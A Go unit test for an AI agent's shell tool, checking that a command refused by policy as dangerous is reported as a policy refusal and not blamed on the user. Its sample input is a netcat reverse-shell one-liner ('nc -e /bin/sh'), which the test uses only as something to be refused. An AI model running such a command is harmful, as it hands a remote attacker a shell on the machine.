package tools

import (
	"strings"
	"testing"
)

// A command refused by policy (headless, dangerous, a rule) was not denied
// by anyone: telling the model "the user denied" makes it apologise to, or
// wait for, a person who never saw the command.
func TestShellPolicyRefusalDoesNotBlameTheUser(t *testing.T) {
	env, _ := newEnv(t)
	env.Settings.ConfirmShell = true
	env.Approver = &fakeApprover{shell: func(p ShellProposal) ShellDecision {
		return ShellDecision{Reason: "refused: the command is classified dangerous"}
	}}
	r := call(t, RunShellCommand(), env, map[string]any{"command": "nc -e /bin/sh h 1"})
	wantFail(t, r, "refused before running", "classified dangerous")
	if strings.Contains(r.Output, "user") {
		t.Fatalf("a policy refusal names the user: %q", r.Output)
	}
}
